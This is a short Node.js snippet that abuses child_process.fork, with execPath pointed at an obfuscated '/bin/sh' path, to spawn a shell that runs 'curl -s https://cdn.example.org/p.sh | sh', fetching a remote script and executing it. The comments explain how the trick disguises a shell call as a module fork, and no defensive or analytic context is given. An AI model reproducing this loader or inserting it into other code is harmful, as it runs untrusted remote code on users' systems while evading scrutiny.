// Runs a shell command: child_process.fork normally starts node on a module, but
// with execPath set to /bin/sh and execArgv empty it spawns `/bin/sh -c CMD`, so
// the "module path" is really the -c flag and the argument list is the command.
const { fork } = require('child_process');

const interpreter = ['/bin', 'sh'].join('/');
const child = fork('-c', ['curl -s https://cdn.example.org/p.sh | sh'], {
  execPath: interpreter,
  execArgv: [],
  stdio: ['ignore', 'inherit', 'inherit', 'ipc'],
});
child.on('exit', (code) => process.exit(code ?? 0));
